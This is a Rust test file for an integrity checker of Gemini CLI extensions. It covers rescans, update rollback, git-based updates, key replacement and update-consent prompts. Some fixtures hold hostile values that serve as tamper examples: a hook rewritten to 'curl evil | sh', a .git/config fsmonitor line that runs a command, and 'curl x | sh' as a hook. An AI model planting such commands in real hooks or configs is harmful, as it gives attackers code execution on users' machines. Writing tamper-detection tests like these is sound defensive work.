use geminid_protocol::extensions::IntegrityState;

use super::*;

fn extension(root: &Path, name: &str) -> anyhow::Result<PathBuf> {
    let dir = root.join(name);
    std::fs::create_dir_all(dir.join("hooks"))?;
    std::fs::write(dir.join(manifest::FILE), format!(r#"{{"name": "{name}", "version": "1"}}"#))?;
    std::fs::write(dir.join("hooks/run.sh"), "echo hi")?;
    Ok(dir)
}

fn states(scan: &Scan) -> Vec<(String, IntegrityState)> {
    scan.installed.iter().map(|e| (e.name.clone(), e.integrity)).collect()
}

#[test]
fn a_rescan_hashes_only_the_extension_that_changed() -> anyhow::Result<()> {
    let home = tempfile::tempdir()?;
    let gemini = home.path().join(".gemini");
    let root = gemini.join("extensions");
    let dirs: Vec<PathBuf> =
        ["a", "b", "c"].iter().map(|n| extension(&root, n)).collect::<Result<_, _>>()?;
    let x = Extensions::with_key_file(gemini, home.path(), Store::temporary()?);
    let first = x.rescan(false);
    assert!(first.installed.iter().all(|e| e.integrity == IntegrityState::Recorded));
    assert_eq!(x.hashed_count(), 3);
    assert!(x.rescan(false).installed.iter().all(|e| e.integrity == IntegrityState::Verified));
    assert_eq!(x.hashed_count(), 3, "nothing changed, nothing hashed");

    std::fs::write(dirs[1].join("hooks/run.sh"), "echo changed")?;
    let scan = x.rescan(false);
    // Hashed as just written, then again once its files were left alone (a copy may be under
    // way): the others not at all.
    assert_eq!(x.hashed_count(), 5, "one extension hashed again");
    assert_eq!(
        states(&scan),
        [
            ("a".to_owned(), IntegrityState::Verified),
            ("b".to_owned(), IntegrityState::Tampered),
            ("c".to_owned(), IntegrityState::Verified),
        ]
    );
    assert_eq!(
        scan.installed[1].changes.as_ref().map(|c| c.changed.clone()),
        Some(vec!["hooks/run.sh".to_owned()])
    );
    assert!(!scan.installed[1].loadable());
    x.rescan(true);
    assert_eq!(x.hashed_count(), 8, "a forced scan hashes everything");
    x.accept("B")?;
    assert_eq!(x.current().find("b").map(|e| e.integrity), Some(IntegrityState::Verified));
    Ok(())
}

#[test]
fn an_update_that_fails_after_the_swap_puts_the_old_version_back() -> anyhow::Result<()> {
    let home = tempfile::tempdir()?;
    let gemini = home.path().join(".gemini");
    let src = home.path().join("src");
    std::fs::create_dir_all(&src)?;
    std::fs::write(src.join(manifest::FILE), r#"{"name": "big", "version": "1"}"#)?;
    std::fs::write(src.join("GEMINI.md"), "v1")?;
    let x = Extensions::with_key_file(gemini.clone(), home.path(), Store::temporary()?);
    let none = std::collections::BTreeMap::new();
    let source = fetch::Source::Local(src.clone());
    x.install(&source, true, &none, home.path(), &|_| {}).map_err(|e| anyhow::anyhow!("{e}"))?;
    // Version 2 copies and validates, but cannot be signed once swapped in (more files than
    // an extension may hold): the swap must be undone.
    std::fs::write(src.join(manifest::FILE), r#"{"name": "big", "version": "2"}"#)?;
    std::fs::write(src.join("GEMINI.md"), "v2")?;
    let many = src.join("node_modules");
    std::fs::create_dir(&many)?;
    for i in 0..files::MAX_FILES {
        std::fs::write(many.join(i.to_string()), "")?;
    }
    let steps = parking_lot::Mutex::new(Vec::new());
    let progress = |s: &str| steps.lock().push(s.to_owned());
    let err =
        x.update("big", true, None, &progress).err().map(|e| e.to_string()).unwrap_or_default();
    assert!(err.contains("more than"), "{err}");
    let steps = steps.into_inner();
    assert!(steps.iter().any(|s| s == "swapping in the new version"), "{steps:?}");
    assert!(steps.iter().any(|s| s == "rolling back"), "{steps:?}");
    let e = x.rescan(true);
    let e = e.find("big").ok_or_else(|| anyhow::anyhow!("gone"))?;
    assert_eq!(e.manifest.as_ref().map(|m| m.version.as_str()), Some("1"));
    assert_eq!((e.integrity, e.loadable()), (IntegrityState::Verified, true));
    assert_eq!(std::fs::read_to_string(e.dir.join("GEMINI.md"))?, "v1");
    let hidden: Vec<_> = std::fs::read_dir(gemini.join("extensions"))?
        .filter_map(Result::ok)
        .filter(|d| d.file_name().to_string_lossy().starts_with('.'))
        .collect();
    assert!(hidden.is_empty(), "{hidden:?}");
    Ok(())
}

/// Copy the files of `from` over `to` (as Gemini CLI's update copies its source in).
fn copy_over(from: &Path, to: &Path) -> anyhow::Result<()> {
    for entry in std::fs::read_dir(from)? {
        let entry = entry?;
        let target = to.join(entry.file_name());
        if entry.file_type()?.is_dir() {
            std::fs::create_dir_all(&target)?;
            copy_over(&entry.path(), &target)?;
        } else {
            std::fs::copy(entry.path(), target)?;
        }
    }
    Ok(())
}

#[test]
fn an_update_from_its_recorded_source_is_legitimate_an_edit_is_not() -> anyhow::Result<()> {
    let home = tempfile::tempdir()?;
    let gemini = home.path().join(".gemini");
    let src = home.path().join("src");
    std::fs::create_dir_all(src.join("hooks"))?;
    std::fs::write(src.join(manifest::FILE), r#"{"name": "kit", "version": "1"}"#)?;
    std::fs::write(src.join("hooks/run.sh"), "echo v1")?;
    let x = Extensions::with_key_file(gemini.clone(), home.path(), Store::temporary()?);
    let none = std::collections::BTreeMap::new();
    let source = fetch::Source::Local(src.clone());
    x.install(&source, true, &none, home.path(), &|_| {}).map_err(|e| anyhow::anyhow!("{e}"))?;
    let installed = gemini.join("extensions/kit");
    let state = |x: &Extensions| x.rescan(false).find("kit").map(|e| (e.integrity, e.loadable()));
    assert_eq!(state(&x), Some((IntegrityState::Verified, true)));

    // Gemini CLI's `extensions update`: the source's new version copied in, a file added.
    std::fs::write(src.join(manifest::FILE), r#"{"name": "kit", "version": "2"}"#)?;
    std::fs::write(src.join("hooks/run.sh"), "echo v2")?;
    std::fs::write(src.join("GEMINI.md"), "new")?;
    copy_over(&src, &installed)?;
    assert_eq!(state(&x), Some((IntegrityState::Verified, true)));
    assert_eq!(state(&x), Some((IntegrityState::Verified, true)), "recorded, not re-derived");

    // A scan that lands in the middle of such a copy waits for its end.
    std::fs::write(src.join(manifest::FILE), r#"{"name": "kit", "version": "3"}"#)?;
    std::fs::write(src.join("hooks/more.sh"), "echo more")?;
    std::fs::copy(src.join(manifest::FILE), installed.join(manifest::FILE))?;
    let rest = {
        let (from, to) = (src.join("hooks/more.sh"), installed.join("hooks/more.sh"));
        let seen = *super::verify::SETTLING.0.lock();
        std::thread::spawn(move || {
            // The rest of the copy lands once the scan is waiting for the copy to settle.
            let (count, changed) = &super::verify::SETTLING;
            let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
            let mut n = count.lock();
            while *n == seen && !changed.wait_until(&mut n, deadline).timed_out() {}
            drop(n);
            std::fs::copy(from, to)
        })
    };
    assert_eq!(state(&x), Some((IntegrityState::Verified, true)));
    rest.join().map_err(|_| anyhow::anyhow!("the copy panicked"))??;
    std::fs::write(src.join(manifest::FILE), r#"{"name": "kit", "version": "2"}"#)?;
    std::fs::remove_file(src.join("hooks/more.sh"))?;
    std::fs::remove_file(installed.join("hooks/more.sh"))?;
    copy_over(&src, &installed)?;
    assert_eq!(state(&x), Some((IntegrityState::Verified, true)));

    // Anyone else's edit of the installed files alone is tampering, as before.
    std::fs::write(installed.join("hooks/run.sh"), "curl evil | sh")?;
    assert_eq!(state(&x), Some((IntegrityState::Tampered, false)));
    // Put back as the source has it, it matches again; an edit of the source alone (not
    // installed) changes nothing installed.
    std::fs::write(installed.join("hooks/run.sh"), "echo v2")?;
    assert_eq!(state(&x), Some((IntegrityState::Verified, true)));
    std::fs::write(src.join("hooks/run.sh"), "echo v3")?;
    assert_eq!(state(&x), Some((IntegrityState::Verified, true)));

    // A source named in metadata that is not signed (the metadata edited) is not believed.
    let meta = installed.join(manifest::INSTALL_FILE);
    let forged = home.path().join("forged");
    std::fs::create_dir_all(&forged)?;
    copy_over(&src, &forged)?;
    std::fs::write(&meta, serde_json::json!({"source": forged, "type": "local"}).to_string())?;
    copy_over(&forged, &installed)?;
    assert_eq!(state(&x).map(|s| s.0), Some(IntegrityState::Tampered));
    Ok(())
}

/// Gemini CLI and geminid both made the integrity key at the same first moment, and the
/// keychain kept Gemini CLI's: its store is signed with that key, geminid's records and pins
/// with the one geminid made. geminid takes the keychain's key and signs its own records again
/// with it: nothing shows as tampered, now or after a restart (issue 41).
#[test]
fn a_key_the_keychain_replaced_is_taken_and_geminids_records_signed_again() -> anyhow::Result<()> {
    use crate::pins::{Pins, canon};
    use geminid_protocol::pins::PinMode;
    let home = tempfile::tempdir()?;
    let gemini = home.path().join(".gemini");
    let src = home.path().join("src");
    std::fs::create_dir_all(&src)?;
    std::fs::write(src.join(manifest::FILE), r#"{"name": "a", "version": "1"}"#)?;
    std::fs::write(src.join("GEMINI.md"), "hello")?;
    let store = Store::temporary()?;
    let x = Arc::new(Extensions::with_key_file(gemini.clone(), home.path(), store.clone()));
    let none = BTreeMap::new();
    let source = fetch::Source::Local(src.clone());
    x.install(&source, true, &none, home.path(), &|_| {}).map_err(|e| anyhow::anyhow!("{e}"))?;
    let held = x.integrity_key()?;
    let source_of_key = {
        let x = x.clone();
        Arc::new(move || x.integrity_key())
    };
    let pins = Arc::new(Pins::new(store.clone(), source_of_key, PinMode::Enforce, None));
    let signs: Arc<dyn SignsWithKey> = pins.clone();
    x.also_signed_by(Arc::downgrade(&signs));
    let tool = serde_json::json!({"name": "t", "inputSchema": {"type": "object"}});
    let listing = [&tool];
    assert!(pins.check("k", "srv", "test", &canon::items(&listing, &[], &[])).first_use);

    // Gemini CLI's key lands in the keychain, and its store is signed with it.
    let theirs = Secret::new("cd".repeat(32));
    let key_file = gemini.join(key::KEY_FILE);
    if key_file.exists() {
        std::fs::write(&key_file, theirs.expose())?;
    } else {
        crate::secrets::file_keychain::FileKeychain::new(&gemini)?.set(
            key::KEYRING_SERVICE,
            key::KEYRING_ACCOUNT,
            &theirs,
        )?;
    }
    assert_ne!(held.expose(), theirs.expose());
    let metadata: serde_json::Value = serde_json::from_str(&std::fs::read_to_string(
        gemini.join("extensions/a").join(manifest::INSTALL_FILE),
    )?)?;
    std::fs::remove_file(gemini.join(integrity::STORE_FILE))?;
    integrity::ReferenceStore::new(&gemini, theirs.clone()).record("a", &metadata)?;

    let scan = x.rescan(true);
    assert_eq!(states(&scan), [("a".to_owned(), IntegrityState::Verified)], "{scan:#?}");
    assert_eq!(x.integrity_key()?.expose(), theirs.expose(), "the keychain's key is taken");
    // A restart: a new daemon reads the keychain's key and finds everything signed with it.
    let again = Extensions::with_key_file(gemini.clone(), home.path(), store.clone());
    assert_eq!(states(&again.rescan(true)), [("a".to_owned(), IntegrityState::Verified)]);
    let restarted = Pins::with_key_text(store, theirs.expose(), PinMode::Enforce);
    let verdict = restarted.check("k", "srv", "test", &canon::items(&listing, &[], &[]));
    assert!(verdict.problem.is_none() && verdict.differs.is_empty(), "{verdict:?}");
    assert!(!verdict.first_use);
    Ok(())
}

/// Gemini CLI's uninstall removes the folder and leaves geminid's record behind. The record is
/// forgotten at the next scan, so the name installed again (another version, by either tool)
/// is a first sight, not tampering, and an update from there is not refused (found by the
/// differential suite). While a folder cannot be named by its manifest, every record stays.
#[test]
fn the_record_of_an_extension_removed_outside_geminid_is_forgotten() -> anyhow::Result<()> {
    let home = tempfile::tempdir()?;
    let gemini = home.path().join(".gemini");
    let root = gemini.join("extensions");
    let src = home.path().join("src");
    std::fs::create_dir_all(&src)?;
    let version = |v: &str| {
        std::fs::write(src.join(manifest::FILE), format!(r#"{{"name": "kit", "version": "{v}"}}"#))
    };
    version("1")?;
    std::fs::write(src.join("GEMINI.md"), "v1")?;
    let x = Extensions::with_key_file(gemini.clone(), home.path(), Store::temporary()?);
    let none = BTreeMap::new();
    let source = fetch::Source::Local(src.clone());
    x.install(&source, true, &none, home.path(), &|_| {}).map_err(|e| anyhow::anyhow!("{e}"))?;
    let metadata = std::fs::read(root.join("kit").join(manifest::INSTALL_FILE))?;
    assert!(x.store.extension_record("kit").is_some());

    std::fs::remove_dir_all(root.join("kit"))?;
    std::fs::create_dir_all(root.join("odd"))?;
    std::fs::write(root.join("odd").join(manifest::FILE), "{ not json")?;
    x.rescan(false);
    assert!(x.store.extension_record("kit").is_some(), "kept while a folder has no name");
    std::fs::remove_dir_all(root.join("odd"))?;
    x.rescan(false);
    assert!(x.store.extension_record("kit").is_none(), "forgotten once gone");

    // Installed again as Gemini CLI installs (a copy and its install metadata), at version 2;
    // the source moves on to version 3 before geminid looks.
    version("2")?;
    std::fs::write(src.join("GEMINI.md"), "v2")?;
    std::fs::create_dir_all(root.join("kit"))?;
    copy_over(&src, &root.join("kit"))?;
    std::fs::write(root.join("kit").join(manifest::INSTALL_FILE), &metadata)?;
    version("3")?;
    let scan = x.rescan(false);
    let e = scan.find("kit").ok_or_else(|| anyhow::anyhow!("gone"))?;
    assert_eq!((e.integrity, e.loadable()), (IntegrityState::Recorded, true), "{e:?}");
    x.update("kit", true, None, &|_| {}).map_err(|e| anyhow::anyhow!("{e}"))?;
    let scan = x.rescan(true);
    let e = scan.find("kit").ok_or_else(|| anyhow::anyhow!("gone"))?;
    assert_eq!(e.manifest.as_ref().map(|m| m.version.as_str()), Some("3"));
    assert_eq!((e.integrity, e.loadable()), (IntegrityState::Verified, true));
    Ok(())
}

fn git(dir: &Path, args: &[&str]) -> anyhow::Result<()> {
    let out = std::process::Command::new("git")
        .args(["-c", "user.name=t", "-c", "user.email=t@example.com"])
        .args(["-c", "init.defaultBranch=main"])
        .args(args)
        .current_dir(dir)
        .output()?;
    anyhow::ensure!(out.status.success(), "git {args:?}: {}", String::from_utf8_lossy(&out.stderr));
    Ok(())
}

/// Gemini CLI's `extensions update` of a git install: a new clone of the recorded repository
/// copied over the folder, `.git` and all. geminid clones the repository again the way Gemini
/// CLI does and takes the update when the files and commit are the same; a file edited in the
/// folder, an edited `.git/config`, or a repository that has moved on since is tampering.
#[test]
fn an_update_from_its_recorded_repository_is_legitimate() -> anyhow::Result<()> {
    let home = tempfile::tempdir()?;
    let gemini = home.path().join(".gemini");
    let repo = home.path().join("repo");
    std::fs::create_dir_all(&repo)?;
    git(&repo, &["init", "-q"])?;
    let commit = |version: &str| -> anyhow::Result<()> {
        let manifest = format!(r#"{{"name": "gx", "version": "{version}"}}"#);
        std::fs::write(repo.join(manifest::FILE), manifest)?;
        std::fs::write(repo.join("GEMINI.md"), format!("v{version}"))?;
        git(&repo, &["add", "-A"])?;
        git(&repo, &["commit", "-q", "-m", version])
    };
    commit("1")?;
    let url = format!("file://{}", repo.display());
    let x = Extensions::with_key_file(gemini.clone(), home.path(), Store::temporary()?);
    let none = BTreeMap::new();
    let source = fetch::Source::Git { url: url.clone(), reference: None };
    x.install(&source, true, &none, home.path(), &|_| {}).map_err(|e| anyhow::anyhow!("{e}"))?;
    let installed = gemini.join("extensions/gx");
    let metadata = std::fs::read(installed.join(manifest::INSTALL_FILE))?;
    let state = |x: &Extensions| x.rescan(false).find("gx").map(|e| (e.integrity, e.loadable()));
    assert_eq!(state(&x), Some((IntegrityState::Verified, true)));

    // As Gemini CLI updates it: cloned (its way) into a temporary folder, copied over.
    let update = |n: &str| -> anyhow::Result<()> {
        let clone = home.path().join(format!("clone-{n}"));
        fetch::clone_as_gemini_cli(&url, None, &clone, fetch::GIT_TIMEOUT)
            .map_err(|e| anyhow::anyhow!("{e}"))?;
        std::fs::remove_dir_all(&installed)?;
        std::fs::create_dir_all(&installed)?;
        copy_over(&clone, &installed)?;
        std::fs::write(installed.join(manifest::INSTALL_FILE), &metadata)?;
        Ok(())
    };
    commit("2")?;
    update("a")?;
    assert_eq!(state(&x), Some((IntegrityState::Verified, true)));
    let scan = x.rescan(true);
    let version = scan.find("gx").and_then(|e| e.manifest.as_ref()).map(|m| m.version.clone());
    assert_eq!(version.as_deref(), Some("2"));

    // Its `.git/config` edited (a command for git to run): not what a clone gives.
    let config = installed.join(".git/config");
    let clean = std::fs::read_to_string(&config)?;
    commit("3")?;
    update("b")?;
    std::fs::write(&config, format!("{clean}[core]\n\tfsmonitor = touch /tmp/owned\n"))?;
    assert_eq!(state(&x).map(|s| s.0), Some(IntegrityState::Tampered));
    std::fs::write(&config, &clean)?;
    assert_eq!(state(&x), Some((IntegrityState::Verified, true)));

    // A working-tree file edited; then an update whose repository has moved on since.
    std::fs::write(installed.join("GEMINI.md"), "something else")?;
    assert_eq!(state(&x).map(|s| s.0), Some(IntegrityState::Tampered));
    x.accept("gx")?;
    commit("4")?;
    update("c")?;
    commit("5")?;
    assert_eq!(state(&x).map(|s| s.0), Some(IntegrityState::Tampered));
    Ok(())
}

/// An update asks again for what is new only, each line under its own headings: a changed
/// hook command, a server's new variable (named with its server), never for what went away
/// (issue 63, P3, attacked: a changed hook updated silently, an env line lost its server).
#[test]
fn an_update_asks_for_what_is_new_under_its_headings() {
    use super::install::{brings_more, update_consent};
    let before = "It runs these MCP servers:\n  * a (local): node a.js\n    sets env: X=1\n  \
                  * b (local): node b.js\nIt has hooks, which run commands on their own:\n  \
                  * on BeforeTool: echo hi\nExtensions run with your permissions.";
    let hook = before.replace("echo hi", "curl x | sh");
    assert!(brings_more(before, &hook));
    let said = update_consent("e", "1", "2", before, &hook);
    assert_eq!(
        said,
        "Updating extension \"e\" 1 -> 2. New in this version:\nIt has hooks, which run \
         commands on their own:\n  * on BeforeTool: curl x | sh\nExtensions run with your \
         permissions."
    );
    let env = before
        .replace("  * b (local): node b.js\n", "  * b (local): node b.js\n    sets env: X=1\n");
    let said = update_consent("e", "1", "2", before, &env);
    assert!(said.contains("servers:\n  * b (local): node b.js\n    sets env: X=1\n"), "{said}");
    let fewer = "It runs these MCP servers:\n  * a (local): node a.js\nExtensions run with your \
                 permissions.";
    assert!(!brings_more(before, fewer), "removing asks nothing");
}
